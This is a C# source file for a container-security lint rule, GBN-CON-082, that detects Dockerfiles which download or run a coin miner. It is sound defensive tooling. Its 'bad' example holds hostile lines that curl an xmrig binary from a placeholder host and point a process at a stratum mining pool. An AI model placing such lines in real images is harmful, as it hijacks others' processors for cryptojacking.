using System.Collections.Immutable;
using Gabion.Model;
using Gabion.Model.Container;

namespace Gabion.Rules.Container.Develop;

/// <summary>A coin miner is installed or run.</summary>
internal sealed class CoinMinerIsRun : Rule<Dockerfile>
{
    public override RuleCard Card { get; } = new()
    {
        Id = RuleId.Parse("GBN-CON-082"),
        Title = "A coin miner is installed or run",
        Severity = Severity.High,
        Stage = Stage.Develop,
        Why = "Miners in images are put there by attackers who live on others' processors, and rarely come alone.",
        Fix = "Remove it, and find out who put it there.",
        References = ["https://attack.mitre.org/techniques/T1496/"],
        Controls = [new("MITRE-ATTACK", "T1496", ControlCoverage.Partial)],
    };

    public override ImmutableArray<Example> Examples =>
    [
        Example.Bad("Dockerfile", """
            FROM debian:12.8
            RUN curl -L -o /tmp/xmrig https://example.com/xmrig <--
            CMD ["/opt/app", "-o", "stratum+tcp://pool.example.com:3333"] <--
            """),
        Example.Good("Dockerfile", """
            FROM debian:12.8
            RUN curl -L https://example.com/miners-guide.html
            """),
    ];

    public override IEnumerable<Problem> Check(Dockerfile file) =>
        from invocation in Invocations.All(file)
        where RemoteControl.IsMiner(invocation.Words)
        group invocation by invocation.Instruction into found
        select found.First().Problem($"{found.Key.Keyword} runs or fetches a coin miner");
}
